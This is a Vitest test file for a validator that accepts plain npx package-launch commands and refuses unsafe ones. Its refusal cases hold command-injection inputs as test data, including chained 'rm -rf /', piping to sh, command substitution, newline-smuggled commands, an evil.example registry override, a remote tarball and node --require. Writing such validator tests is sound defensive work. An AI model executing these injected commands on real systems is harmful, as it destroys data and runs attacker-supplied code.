import { describe, expect, it } from "vitest";
import { AppError } from "../../../../errors.js";
import { NPX_TEXT, parseNpxCommand } from "./npx.js";

function refusal(input: string): AppError {
  try {
    parseNpxCommand(input);
  } catch (err) {
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).code).toBe("validation_failed");
    return err as AppError;
  }
  throw new Error(`expected ${JSON.stringify(input)} to be refused`);
}

describe("parseNpxCommand accepts", () => {
  it.each([
    ["npx -y @modelcontextprotocol/server-everything", { package: "@modelcontextprotocol/server-everything", version: null, args: [] }],
    ["npx @scope/pkg@1.2.3 --port 3000 /data", { package: "@scope/pkg", version: "1.2.3", args: ["--port", "3000", "/data"] }],
    ["npx pkg@latest", { package: "pkg", version: "latest", args: [] }],
    ["  npx\t--yes   pkg@1.0.0-beta.1+build.5  a=b  ", { package: "pkg", version: "1.0.0-beta.1+build.5", args: ["a=b"] }],
    [
      "npx mcp-server.fs /home/me/data ~/x user@example.com 50% key:value,other",
      { package: "mcp-server.fs", version: null, args: ["/home/me/data", "~/x", "user@example.com", "50%", "key:value,other"] },
    ],
    ["npx @a/b@next --config=x --cachedir /tmp", { package: "@a/b", version: "next", args: ["--config=x", "--cachedir", "/tmp"] }],
  ])("%s", (input, expected) => expect(parseNpxCommand(input)).toEqual(expected));

  it("allows exactly 50 args and a 214-character name", () => {
    expect(parseNpxCommand(`npx pkg ${"a ".repeat(50)}`).args).toHaveLength(50);
    expect(parseNpxCommand(`npx ${"a".repeat(214)}`).package).toHaveLength(214);
  });
});

describe("parseNpxCommand refuses", () => {
  it.each([
    ["npx -y pkg; rm -rf /", NPX_TEXT.shell],
    ["npx pkg && curl x", NPX_TEXT.shell],
    ["npx pkg | sh", NPX_TEXT.shell],
    ["npx $(whoami)", NPX_TEXT.shell],
    ["npx ${HOME}", NPX_TEXT.shell],
    ["npx `whoami`", NPX_TEXT.shell],
    ["npx pkg `id`", NPX_TEXT.shell],
    ["npx -c 'sh'", NPX_TEXT.shell],
    ['npx pkg "a b"', NPX_TEXT.shell],
    ["npx pkg 'a'", NPX_TEXT.shell],
    ["npx pkg > /etc/passwd", NPX_TEXT.shell],
    ["npx pkg < /etc/passwd", NPX_TEXT.shell],
    ["npx pkg *", NPX_TEXT.shell],
    ["npx pkg /data/?", NPX_TEXT.shell],
    ["npx pkg a\\ b", NPX_TEXT.shell],
    ["npx pkg !1", NPX_TEXT.shell],
    ["npx pkg # comment", NPX_TEXT.shell],
    ["npx pkg\nrm -rf /", NPX_TEXT.newline],
    ["npx pkg\r\nrm -rf /", NPX_TEXT.newline],
    ["npx pkg\0x", NPX_TEXT.newline],
    ["npx pkg\u00a0x", NPX_TEXT.unsupported],
    ["npx pkg é", NPX_TEXT.unsupported],
    ["npx -c sh", NPX_TEXT.forbiddenOption("-c")],
    ["npx -csh pkg", NPX_TEXT.forbiddenOption("-c")],
    ["npx --call=sh", NPX_TEXT.forbiddenOption("--call")],
    ["npx --call sh", NPX_TEXT.forbiddenOption("--call")],
    ["npx --registry=https://evil.example pkg", NPX_TEXT.forbiddenOption("--registry")],
    ["npx pkg --registry https://x", NPX_TEXT.forbiddenOption("--registry")],
    ["npx --prefix /tmp pkg", NPX_TEXT.forbiddenOption("--prefix")],
    ["npx -p other pkg", NPX_TEXT.forbiddenOption("-p")],
    ["npx --package=other pkg", NPX_TEXT.forbiddenOption("--package")],
    ["npx pkg --userconfig=/tmp/x", NPX_TEXT.forbiddenOption("--userconfig")],
    ["npx pkg --globalconfig /tmp/x", NPX_TEXT.forbiddenOption("--globalconfig")],
    ["npx pkg --node-options=--require=/tmp/x.js", NPX_TEXT.forbiddenOption("--node-options")],
    ["npx pkg --script-shell=/bin/sh", NPX_TEXT.forbiddenOption("--script-shell")],
    ["npx pkg --cache /tmp", NPX_TEXT.forbiddenOption("--cache")],
    ["npx -g pkg", NPX_TEXT.forbiddenOption("-g")],
    ["npx pkg --global", NPX_TEXT.forbiddenOption("--global")],
    ["npx pkg --ignore-scripts=false", NPX_TEXT.forbiddenOption("--ignore-scripts")],
    ["npx -y --yes pkg", NPX_TEXT.onlyYes],
    ["npx -y -y pkg", NPX_TEXT.onlyYes],
    ["npx --reg=https://evil.example pkg", NPX_TEXT.onlyYes],
    ["npx -- pkg", NPX_TEXT.onlyYes],
    ["npx --quiet pkg", NPX_TEXT.onlyYes],
    ["bash -c x", NPX_TEXT.mustStartWithNpx],
    ["node x.js", NPX_TEXT.mustStartWithNpx],
    ["NPX pkg", NPX_TEXT.mustStartWithNpx],
    ["npm exec pkg", NPX_TEXT.mustStartWithNpx],
    ["", NPX_TEXT.empty],
    [" \t ", NPX_TEXT.empty],
    ["npx", NPX_TEXT.missingPackage],
    ["npx -y", NPX_TEXT.missingPackage],
    ["npx MyPackage", NPX_TEXT.invalidPackage("MyPackage")],
    ["npx @Scope/pkg", NPX_TEXT.invalidPackage("@Scope/pkg")],
    ["npx ../../etc", NPX_TEXT.invalidPackage("../../etc")],
    ["npx ./local", NPX_TEXT.invalidPackage("./local")],
    ["npx /usr/bin/env", NPX_TEXT.invalidPackage("/usr/bin/env")],
    ["npx .hidden", NPX_TEXT.invalidPackage(".hidden")],
    ["npx @scope", NPX_TEXT.invalidPackage("@scope")],
    ["npx @scope/a/b", NPX_TEXT.invalidPackage("@scope/a/b")],
    ["npx git+https://github.com/a/b", NPX_TEXT.invalidPackage("git+https://github.com/a/b")],
    ["npx https://evil.example/x.tgz", NPX_TEXT.invalidPackage("https://evil.example/x.tgz")],
    ["npx file:/tmp/x", NPX_TEXT.invalidPackage("file:/tmp/x")],
    ["npx pkg@", NPX_TEXT.invalidVersion("")],
    ["npx pkg@=1.0.0", NPX_TEXT.invalidVersion("=1.0.0")],
    ["npx pkg@.1", NPX_TEXT.invalidVersion(".1")],
    ["npx pkg@npm:other", NPX_TEXT.invalidVersion("npm:other")],
    ["npx pkg@file:/tmp", NPX_TEXT.invalidVersion("file:/tmp")],
    [`npx pkg@${"1".repeat(65)}`, NPX_TEXT.invalidVersion("1".repeat(65))],
    [`npx ${"a".repeat(215)}`, NPX_TEXT.invalidPackage("a".repeat(215))],
    [`npx pkg ${"a ".repeat(51)}`, NPX_TEXT.tooManyArgs],
    [`npx pkg ${"a".repeat(493)}`, NPX_TEXT.tooLong],
  ])("%j", (input, message) => expect(refusal(input).message).toBe(message));

  it("refuses version ranges", () => {
    for (const input of ["npx pkg@^1.0.0", "npx pkg@>=1", "npx pkg@1||2", "npx pkg@*"]) refusal(input);
    expect(refusal("npx pkg@~1.0.0").message).toBe(NPX_TEXT.invalidVersion("~1.0.0"));
  });
});
